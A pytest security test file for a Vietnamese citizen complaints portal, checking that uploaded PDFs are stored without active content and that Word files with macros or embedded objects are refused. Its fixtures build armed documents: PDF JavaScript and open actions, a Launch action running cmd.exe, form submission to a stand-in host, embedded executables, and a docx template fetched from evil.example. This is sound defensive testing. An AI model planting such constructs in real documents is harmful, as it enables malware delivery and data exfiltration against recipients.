"""Active content in citizens' files (issue 13, item 8; ASVS V5.4.3): a PDF is stored without
its scripts, actions, embedded files, multimedia and forms, with the same pages; one that
cannot be cleaned, or opens only with a password, is refused in Vietnamese with what was typed
kept; a Word file with macros, controls, embedded objects or a template on the Internet is
refused."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from typing import Any

import olefile
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.test.utils import override_settings
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from complaints import pdfs, uploads
from complaints.models import Attachment, Petition
from tests.security.uploads_helpers import (
    _api_submit,
    _payload,
    _post_step,
    _to_documents_step,
    _upload_and_send,
    docx,
)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Any) -> None:
    settings.MEDIA_ROOT = str(tmp_path / "media")


PAGE_TEXT = "Don khieu nai so 7"
# What each kind of active content carries: none of it may be in a stored file.
CANARY = "canary-7f3a"
# Names that only active content has in a PDF (pypdf writes dictionaries uncompressed).
ACTIVE_NAMES = [
    b"/JavaScript",
    b"/JS",
    b"/OpenAction",
    b"/AA",
    b"/Launch",
    b"/EmbeddedFile",
    b"/RichMedia",
    b"/XFA",
    b"/AcroForm",
    b"/SubmitForm",
    b"/URI",
]


# --- PDFs with active content, built with pypdf ------------------------------------------------


def _name(value: str) -> NameObject:
    return NameObject(value)


def _dict(**entries: Any) -> DictionaryObject:
    return DictionaryObject({_name("/" + k): v for k, v in entries.items()})


def _js(code: str) -> DictionaryObject:
    return _dict(Type=_name("/Action"), S=_name("/JavaScript"), JS=TextStringObject(code))


def _rect() -> ArrayObject:
    return ArrayObject([FloatObject(72), FloatObject(600), FloatObject(300), FloatObject(640)])


def _text_page(writer: PdfWriter, number: int) -> Any:
    """A page that says something, so that what a cleaned page shows can be read back."""
    page = writer.add_blank_page(width=595, height=842)
    font = _dict(Type=_name("/Font"), Subtype=_name("/Type1"), BaseFont=_name("/Helvetica"))
    page[_name("/Resources")] = _dict(Font=_dict(F1=writer._add_object(font)))
    content = DecodedStreamObject()
    content.set_data(f"BT /F1 18 Tf 72 720 Td ({PAGE_TEXT} trang {number}) Tj ET".encode())
    page[_name("/Contents")] = writer._add_object(content)
    return page


def _annotate(writer: PdfWriter, page: Any, annotation: DictionaryObject) -> None:
    annotation.setdefault(_name("/Type"), _name("/Annot"))
    annotation.setdefault(_name("/Rect"), _rect())
    ref = writer._add_object(annotation)
    annotation[_name("/P")] = page.indirect_reference
    page.setdefault(_name("/Annots"), ArrayObject()).append(ref)


def _document_javascript(w: PdfWriter, pages: list[Any]) -> None:
    names = ArrayObject([TextStringObject("run"), w._add_object(_js(f"app.alert('{CANARY}')"))])
    w._root_object[_name("/Names")] = _dict(JavaScript=_dict(Names=names))


def _open_action(w: PdfWriter, pages: list[Any]) -> None:
    w._root_object[_name("/OpenAction")] = w._add_object(_js(f"this.exportDataObject('{CANARY}')"))


def _page_open_action(w: PdfWriter, pages: list[Any]) -> None:
    pages[0][_name("/AA")] = _dict(O=_js(f"app.launchURL('http://{CANARY}.example')"))


def _launch(w: PdfWriter, pages: list[Any]) -> None:
    launch = _dict(
        S=_name("/Launch"),
        F=TextStringObject("cmd.exe"),
        Win=_dict(F=TextStringObject("cmd.exe"), P=TextStringObject(f"/c {CANARY}")),
    )
    _annotate(w, pages[1], _dict(Subtype=_name("/Link"), A=launch))


def _link_with_uri_and_submit(w: PdfWriter, pages: list[Any]) -> None:
    submit = _dict(S=_name("/SubmitForm"), F=TextStringObject(f"http://{CANARY}.example/"))
    uri = _dict(S=_name("/URI"), URI=TextStringObject(f"http://{CANARY}.example/"), Next=submit)
    _annotate(w, pages[0], _dict(Subtype=_name("/Link"), A=uri))


def _embedded_file(w: PdfWriter, pages: list[Any]) -> None:
    w.add_attachment("hoadon.exe", b"MZ" + CANARY.encode() * 20)


def _file_attachment_annotation(w: PdfWriter, pages: list[Any]) -> None:
    stream = DecodedStreamObject()
    stream.set_data(b"MZ" + CANARY.encode() * 20)
    stream[_name("/Type")] = _name("/EmbeddedFile")
    spec = _dict(
        Type=_name("/Filespec"),
        F=TextStringObject("run.exe"),
        EF=_dict(F=w._add_object(stream)),
    )
    _annotate(w, pages[0], _dict(Subtype=_name("/FileAttachment"), FS=spec))


def _xfa_form(w: PdfWriter, pages: list[Any]) -> None:
    xfa = DecodedStreamObject()
    xfa.set_data(
        f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>{CANARY}()</script>'
        "</template></xdp:xdp>".encode()
    )
    field = _dict(
        FT=_name("/Tx"),
        T=TextStringObject("ho_ten"),
        V=TextStringObject("Lò Văn A"),
        Subtype=_name("/Widget"),
        AA=_dict(K=_js(f"event.value='{CANARY}'")),
    )
    _annotate(w, pages[0], field)
    w._root_object[_name("/AcroForm")] = _dict(
        Fields=ArrayObject([field.indirect_reference]), XFA=w._add_object(xfa)
    )


def _rich_media(w: PdfWriter, pages: list[Any]) -> None:
    flash = DecodedStreamObject()
    flash.set_data(b"FWS" + CANARY.encode())
    content = _dict(
        Assets=_dict(Names=ArrayObject([TextStringObject("a.swf"), w._add_object(flash)]))
    )
    _annotate(w, pages[1], _dict(Subtype=_name("/RichMedia"), RichMediaContent=content))


def _postscript(w: PdfWriter, pages: list[Any]) -> None:
    ps = DecodedStreamObject()
    ps.set_data(f"({CANARY}) print".encode())
    ps.update({_name("/Type"): _name("/XObject"), _name("/Subtype"): _name("/PS")})
    pages[0][_name("/Resources")][_name("/XObject")] = _dict(P0=w._add_object(ps))


ACTIVE: dict[str, Callable[[PdfWriter, list[Any]], None]] = {
    "document JavaScript": _document_javascript,
    "OpenAction": _open_action,
    "a page's open action (AA)": _page_open_action,
    "a link that launches a program": _launch,
    "a link to a URI that submits a form": _link_with_uri_and_submit,
    "an embedded file": _embedded_file,
    "a file attachment annotation": _file_attachment_annotation,
    "an XFA form with a field script": _xfa_form,
    "RichMedia (Flash)": _rich_media,
    "a PostScript XObject": _postscript,
}


def active_pdf(*kinds: str, pages: int = 2) -> bytes:
    writer = PdfWriter()
    made = [_text_page(writer, n) for n in range(1, pages + 1)]
    for kind in kinds:
        ACTIVE[kind](writer, made)
    writer.add_metadata({"/Author": "Lò Văn Tố Cáo"})  # the denouncer's name, as Word writes it
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def assert_clean(data: bytes, *, pages: int = 2) -> None:
    """No active content anywhere in the file, read independently of the cleaner: by the bytes
    and by every object pypdf finds in the file; the pages and what they say kept."""
    for name in ACTIVE_NAMES:
        assert name not in data, name
    assert CANARY.encode() not in data
    assert "Tố Cáo".encode("utf-16-be") not in data and b"Author" not in data
    reader = PdfReader(io.BytesIO(data), strict=True)
    assert len(reader.pages) == pages
    for n, page in enumerate(reader.pages, start=1):
        assert f"{PAGE_TEXT} trang {n}" in page.extract_text()
    for number in range(1, len(reader.xref_objStm) + reader.trailer["/Size"]):
        try:
            obj = reader.get_object(number)
        except Exception:  # a free entry
            continue
        text = repr(obj)
        for name in ACTIVE_NAMES:
            assert name.decode() not in text, (number, text[:200])


def test_the_builders_do_put_active_content_in() -> None:
    for kind in ACTIVE:
        data = active_pdf(kind)
        found = pdfs.active_content(PdfReader(io.BytesIO(data)))
        assert found, kind
        with pytest.raises(AssertionError):
            assert_clean(data)


@pytest.mark.parametrize("kind", ACTIVE, ids=list(ACTIVE))
def test_form_stores_a_pdf_without_its_active_content(client: Client, kind: str) -> None:
    _to_documents_step(client)
    attachment = _upload_and_send(client, "don.pdf", active_pdf(kind), "application/pdf")
    with attachment.file.open("rb") as f:
        stored = f.read()
    assert_clean(stored)
    assert attachment.size == len(stored) and attachment.content_type == "application/pdf"


def test_api_stores_a_pdf_with_every_kind_of_active_content_cleaned() -> None:
    response = _api_submit(_payload(("to-cao.pdf", active_pdf(*ACTIVE, pages=3))))
    assert response.status_code == 201, response.json()
    with Attachment.objects.get().file.open("rb") as f:
        assert_clean(f.read(), pages=3)


def test_a_pdf_with_only_an_owners_password_is_stored_decrypted_and_clean(client: Client) -> None:
    """An official decision is often "protected" against copying by an owner's password: it
    opens for anyone, so it is accepted, read, cleaned and stored without the encryption
    (which would hide its streams from the check and the scan)."""
    writer = PdfWriter(
        clone_from=PdfReader(io.BytesIO(active_pdf("OpenAction", "document JavaScript")))
    )
    writer.encrypt(user_password="", owner_password="chu-so-huu", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    _to_documents_step(client)
    attachment = _upload_and_send(client, "quyet-dinh.pdf", out.getvalue(), "application/pdf")
    with attachment.file.open("rb") as f:
        stored = f.read()
    assert b"/Encrypt" not in stored
    assert_clean(stored)


def test_a_pdf_that_needs_a_password_to_open_is_refused_and_what_was_typed_kept(
    client: Client,
) -> None:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(active_pdf())))
    writer.encrypt(user_password="mat-khau", owner_password="chu", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    _to_documents_step(client, full_name="Lò Thị Mật Khẩu")
    upload = SimpleUploadedFile("khoa.pdf", out.getvalue(), content_type="application/pdf")
    body = _post_step(client, "documents", {"file_1": upload}).content.decode()
    assert "khoa.pdf được đặt mật khẩu" in body and "review-confirm" not in body
    _upload_and_send(client, "don.pdf", active_pdf(), "application/pdf")
    assert Petition.objects.get().submitters.get().full_name == "Lò Thị Mật Khẩu"


def _uncleanable(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fault injected into pypdf: the rewrite loses the second page, as it could on a page
    tree it cannot follow. (Any real file that does so today is a pypdf bug, fixed in time.)"""
    real = PdfWriter.add_page
    calls = {"n": 0}

    def add_page(self: PdfWriter, page: Any, *args: Any, **kwargs: Any) -> Any:
        calls["n"] += 1
        return None if calls["n"] == 2 else real(self, page, *args, **kwargs)

    monkeypatch.setattr(PdfWriter, "add_page", add_page)


def test_a_pdf_that_cannot_be_cleaned_is_refused_on_the_form_with_what_was_typed_kept(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    _to_documents_step(client, full_name="Lò Văn Giữ")
    upload = SimpleUploadedFile("hong.pdf", active_pdf("OpenAction"))
    assert "review-confirm" in _post_step(client, "documents", {"file_1": upload}).content.decode()
    _uncleanable(monkeypatch)
    body = _post_step(client, "review", {"confirm": "on"}).content.decode()
    assert "hong.pdf: không thể làm sạch tệp PDF này" in body
    assert 'name="documents-file_1"' in body  # back to the documents, to attach another
    assert not Petition.objects.exists()
    monkeypatch.undo()
    _upload_and_send(client, "don.pdf", active_pdf(), "application/pdf")
    assert Petition.objects.get().submitters.get().full_name == "Lò Văn Giữ"


def test_api_refuses_a_pdf_that_cannot_be_cleaned_in_vietnamese(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    data = active_pdf("OpenAction")
    _uncleanable(monkeypatch)
    response = _api_submit(_payload(("hong.pdf", data)))
    assert response.status_code == 400
    [message] = response.json()["attachments"]
    assert message.startswith("hong.pdf: không thể làm sạch tệp PDF này")
    assert not Petition.objects.exists()


def test_cleaning_keeps_a_pdf_without_active_content_as_it_reads() -> None:
    data = active_pdf(pages=5)
    cleaned = pdfs.clean(data, max_pages=10)
    assert_clean(cleaned, pages=5)


@override_settings(PORTAL_ATTACHMENT_MAX_PAGES=20)
def test_a_pdf_of_more_pages_than_the_limit_is_refused_before_its_pages_are_read(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The tree's /Count says 1 over 5,000 pages: the walk counts the pages themselves and
    stops past the limit; pypdf's flattening (slow per page) is never started."""
    writer = PdfWriter()
    for _n in range(5000):
        writer.add_blank_page(width=10, height=10)
    writer._root_object["/Pages"][_name("/Count")] = NumberObject(1)
    out = io.BytesIO()
    writer.write(out)
    walked = []
    real = pdfs._resolve
    monkeypatch.setattr(pdfs, "_resolve", lambda obj: walked.append(obj) or real(obj))
    response = _api_submit(_payload(("ho-so.pdf", out.getvalue())))
    assert response.status_code == 400
    assert "ho-so.pdf có hơn 20 trang" in response.json()["attachments"][0]
    assert len(walked) < 100


# --- Word files ----------------------------------------------------------------------------


def _docx_with(member: str, content: bytes = b"\x00" * 16, rels: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, zipfile.ZipFile(io.BytesIO(docx())) as plain:
        for info in plain.infolist():
            archive.writestr(info, plain.read(info))
        if member:
            archive.writestr(member, content)
        if rels:
            archive.writestr(
                "word/_rels/settings.xml.rels",
                '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                f'package/2006/relationships">{rels}</Relationships>',
            )
    return out.getvalue()


REMOTE_TEMPLATE = (
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
)
WORD_ACTIVE = {
    "a VBA project": (_docx_with("word/vbaProject.bin"), "chứa macro"),
    "VBA data": (_docx_with("word/vbaData.xml", b"<wne:vbaSuppData/>"), "chứa macro"),
    "an ActiveX control": (_docx_with("word/activeX/activeX1.bin"), "nội dung chạy được"),
    "an embedded OLE object": (
        _docx_with("word/embeddings/oleObject1.bin"),
        "nội dung chạy được",
    ),
    "a template fetched from the Internet": (
        _docx_with("", rels=REMOTE_TEMPLATE),
        "nội dung chạy được",
    ),
}


@pytest.mark.parametrize("case", WORD_ACTIVE, ids=list(WORD_ACTIVE))
def test_a_docx_with_active_content_is_refused(client: Client, case: str) -> None:
    data, words = WORD_ACTIVE[case]
    _to_documents_step(client)
    upload = SimpleUploadedFile("don.docx", data)
    body = _post_step(client, "documents", {"file_1": upload}).content.decode()
    assert "don.docx" in body and words in body and "review-confirm" not in body
    response = _api_submit(_payload(("don.docx", data)))
    assert response.status_code == 400 and words in response.json()["attachments"][0]


def test_a_docx_with_an_embedded_picture_and_a_link_is_accepted() -> None:
    link = (
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/hyperlink" Target="https://laichau.gov.vn/" TargetMode="External"/>'
    )
    data = _docx_with("word/media/image1.png", b"\x89PNG\r\n\x1a\n", rels=link)
    response = _api_submit(_payload(("don.docx", data)))
    assert response.status_code == 201, response.json()


def _doc(*streams: str) -> bytes:
    """A Word 97-2003 file holding ``streams`` (paths, "/" between storages) beside its
    ``WordDocument``."""
    return ole_build(dict.fromkeys(("WordDocument", *streams), b"\x00" * 4096))


def ole_build(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE2 compound file (olefile only reads them): a header, one FAT sector, the
    directory, then each stream in regular sectors (each at least 4,096 bytes, so none is in
    the mini stream). Storages are made for the paths' folders; siblings are chained to the
    right, a valid if unbalanced tree."""
    sector, none, end_of_chain = 512, 0xFFFFFFFF, 0xFFFFFFFE
    # The directory: (name, is_storage, parent index, stream data), the root first.
    entries: list[tuple[str, bool, int, bytes]] = [("Root Entry", True, -1, b"")]
    for path, data in streams.items():
        parent = 0
        *folders, leaf = path.split("/")
        for folder in folders:
            found = [i for i, e in enumerate(entries) if e[0] == folder and e[2] == parent]
            if not found:
                entries.append((folder, True, parent, b""))
                found = [len(entries) - 1]
            parent = found[0]
        entries.append((leaf, False, parent, data))
    dir_sectors = (len(entries) * 128 + sector - 1) // sector
    fat = [0xFFFFFFFD] + [i + 2 for i in range(dir_sectors - 1)] + [end_of_chain]
    starts, body = {}, b""
    for i, (_entry_name, is_storage, _parent, data) in enumerate(entries):
        if is_storage:
            continue
        n = (len(data) + sector - 1) // sector
        starts[i] = len(fat)
        fat += [len(fat) + k + 1 for k in range(n - 1)] + [end_of_chain]
        body += data.ljust(n * sector, b"\x00")
    assert len(fat) <= sector // 4
    fat += [none] * (sector // 4 - len(fat))
    children = {i: [j for j, e in enumerate(entries) if e[2] == i] for i in range(len(entries))}
    siblings = {}
    for kids in children.values():
        for k, kid in enumerate(kids):
            siblings[kid] = kids[k + 1] if k + 1 < len(kids) else none
    directory = b""
    for i, (name, is_storage, _parent, data) in enumerate(entries):
        encoded = (name + "\x00").encode("utf-16-le")
        kind = 5 if i == 0 else 1 if is_storage else 2
        child = children[i][0] if children[i] else none
        directory += (
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBB3I", len(encoded), kind, 1, none, siblings.get(i, none), child)
            + b"\x00" * 36  # class id, state bits, times
            + struct.pack("<III", starts.get(i, end_of_chain if i == 0 else 0), len(data), 0)
        )
    directory = directory.ljust(dir_sectors * sector, b"\x00")
    header = (
        bytes.fromhex("d0cf11e0a1b11ae1")
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<9I", 0, 1, 1, 0, 4096, end_of_chain, 0, end_of_chain, 0)
    )
    difat = struct.pack("<I", 0) + struct.pack("<I", none) * 108
    return (header + difat).ljust(sector, b"\x00") + struct.pack("<128I", *fat) + directory + body


def test_the_doc_builder_makes_files_olefile_reads() -> None:
    with olefile.OleFileIO(_doc("Macros", "ObjectPool/_1/\x01Ole10Native")) as ole:
        assert ole.exists("WordDocument") and ole.exists("Macros")
        assert ole.exists("ObjectPool/_1/\x01Ole10Native")
        assert ole.get_type("ObjectPool") == olefile.STGTY_STORAGE


@pytest.mark.parametrize(
    ("streams", "words"),
    [
        (("Macros",), "chứa macro"),
        (("_VBA_PROJECT_CUR",), "chứa macro"),
        (("ObjectPool/_1/\x01Ole10Native",), "nội dung chạy được"),
    ],
    ids=["macros", "a VBA project", "embedded objects"],
)
def test_a_doc_with_macros_or_embedded_objects_is_refused(
    streams: tuple[str, ...], words: str
) -> None:
    response = _api_submit(_payload(("don.doc", _doc(*streams))))
    assert response.status_code == 400
    assert words in response.json()["attachments"][0]


def test_a_plain_doc_is_accepted() -> None:
    response = _api_submit(_payload(("don.doc", _doc())))
    assert response.status_code == 201, response.json()
    assert Attachment.objects.get().content_type == "application/msword"


def test_macro_enabled_word_names_are_not_taken() -> None:
    assert not {"docm", "dotm", "dot", "dotx"} & set(uploads.KINDS["docx"].extensions)
    assert uploads.extension("don.docm") not in uploads.settings.PORTAL_ATTACHMENT_TYPES


def test_recheck_all_cleans_a_pdf_stored_before_pdfs_were_cleaned() -> None:
    from django.core.files.base import ContentFile
    from django.core.management import call_command

    from tests.complaints.factories import submit

    petition = submit().petition
    data = active_pdf("document JavaScript", "an embedded file")
    old = Attachment.objects.create(
        petition=petition,
        file=ContentFile(data, name=uploads.random_name(uploads.KINDS["pdf"])),
        original_name="don.pdf",
        size=len(data),
        content_type="application/pdf",
    )
    call_command("recheck_attachments", "--all", stdout=io.StringIO())
    old.refresh_from_db()
    with old.file.open("rb") as f:
        assert_clean(f.read())
